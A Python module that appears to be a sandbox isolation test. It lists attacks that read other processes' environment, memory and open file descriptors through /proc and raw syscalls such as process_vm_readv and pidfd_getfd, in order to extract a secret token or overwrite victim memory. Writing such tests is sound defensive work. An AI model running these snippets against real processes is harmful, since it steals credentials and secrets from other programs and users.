"""Reading or changing the memory, environment and descriptors of other processes.

The victim of a plain run is a process of the same account with a secret in its environment, its memory and an open
file. In RESTRICTED the engine, the slot's launcher and template and a sibling's run are at hand too.
"""

from __future__ import annotations

from attack import Attack

OTHERS = """
pids = [place["victim_pid"], place["engine_pid"], place["launcher_pid"], place["sibling_pid"], *range(1, 400)]
pids = [pid for pid in dict.fromkeys(pids) if pid and pid != os.getpid()]
"""

PROC_FILES = """
for pid in pids:
    for name in {names}:
        with contextlib.suppress(OSError):
            data = open(f"/proc/{{pid}}/{{name}}", "rb").read(1 << 18)
            tell(pid, name, text(data)[:20000])
            won(f"/proc/{{pid}}/{{name}}")
"""

PROC_MEMORY = """
for pid, address in ((place["victim_pid"], place["victim_address"]), (place["engine_pid"], place["engine_address"])):
    try:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            memory.seek(address)
            tell(text(memory.read(64)))
    except OSError as error:
        tell(error)
"""

VM_READ = """
for pid, address in ((place["victim_pid"], place["victim_address"]), (place["engine_pid"], place["engine_address"]),
                     (1, place["engine_address"]), (place["launcher_pid"], place["engine_address"])):
    found = ctypes.create_string_buffer(64)
    answer = raw(310, pid, struct.pack("QQ", ctypes.addressof(found), 64), 1, struct.pack("QQ", address, 64), 1, 0)
    tell(pid, answer, text(found.raw))
"""

VM_WRITE = """
data = ctypes.create_string_buffer(b"overwritten")
enters("process_vm_writev", 311, place["victim_pid"], struct.pack("QQ", ctypes.addressof(data), 11), 1,
       struct.pack("QQ", place["victim_scratch"], 11), 1, 0)
"""

PIDFD_GETFD = """
for pid in pids[:20]:
    pidfd = raw(434, pid, 0)
    if pidfd < 0:
        continue
    for number in range(3, 40):
        fd = raw(438, pidfd, number, 0)
        if fd >= 0:
            won(f"descriptor {number} of {pid}")
            with contextlib.suppress(OSError):
                os.set_blocking(fd, False)
                tell(text(os.pread(fd, 999, 0)))
            os.close(fd)
            break
"""

PROC_DESCRIPTORS = """
for pid in pids:
    for number in range(3, 40):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
            tell(pid, number, text(os.read(fd, 999)))
"""

PROC_PLACES = """
for pid in pids:
    for name in ("cwd", "root", "exe", "ns/net", "ns/mnt", "map_files"):
        with contextlib.suppress(OSError):
            won(f"/proc/{pid}/{name}: " + os.readlink(f"/proc/{pid}/{name}"))
"""

PROC_ROOT = """
for pid in pids:
    with contextlib.suppress(OSError):
        tell(open(f"/proc/{pid}/root{place['secret']}").read())
"""

KCMP = """
enters("kcmp", 312, place["victim_pid"], place["engine_pid"], 2, 0, 0)
"""

ADVISE = """
pidfd = raw(434, place["victim_pid"], 0)
tell("pidfd", pidfd)
page = struct.pack("QQ", place["victim_address"] & -4096, 4096)
enters("process_madvise", 440, pidfd if pidfd >= 0 else 0, page, 1, 20, 0)
"""

MOVE_PAGES = """
enters("move_pages", 279, place["victim_pid"], 0, 0, 0, 0, 0)
enters("migrate_pages", 256, place["victim_pid"], 0, 0, 0)
"""

ROBUST_LIST = """
head, size = ctypes.c_void_p(), ctypes.c_size_t()
enters("get_robust_list", 274, place["victim_pid"], ctypes.byref(head), ctypes.byref(size))
"""

SIBLING = """
import gc
for pid in (place["sibling_pid"], place["victim_pid"]):
    for name in ("environ", "mem", "maps", "cmdline", "status", "stack", "syscall", "wchan"):
        try:
            tell(name, text(open(f"/proc/{pid}/{name}", "rb").read(4096)))
            won(f"/proc/{pid}/{name}")
        except OSError as error:
            tell(name, error)
"""

ATTACKS = [
    Attack(name="environ", code=OTHERS + PROC_FILES.format(names=("environ",)), shows="token"),
    Attack(name="maps", code=OTHERS + PROC_FILES.format(names=("maps", "smaps", "pagemap"))),
    Attack(name="status", code=OTHERS + PROC_FILES.format(names=("status", "cmdline", "stat", "wchan", "io"))),
    Attack(name="proc-mem", code=PROC_MEMORY, shows="token"),
    Attack(name="vm-readv", code=VM_READ, shows="token"),
    Attack(name="vm-writev", code=VM_WRITE),
    Attack(name="pidfd-getfd", code=OTHERS + PIDFD_GETFD, shows="token"),
    Attack(name="proc-fd", code=OTHERS + PROC_DESCRIPTORS, shows="token"),
    Attack(name="proc-places", code=OTHERS + PROC_PLACES),
    Attack(name="proc-root", code=OTHERS + PROC_ROOT, shows="token"),
    Attack(name="kcmp", code=KCMP),
    Attack(name="process-madvise", code=ADVISE, root=True),
    Attack(name="move-pages", code=MOVE_PAGES),
    Attack(name="robust-list", code=ROBUST_LIST),
    Attack(name="sibling", code=SIBLING),
]
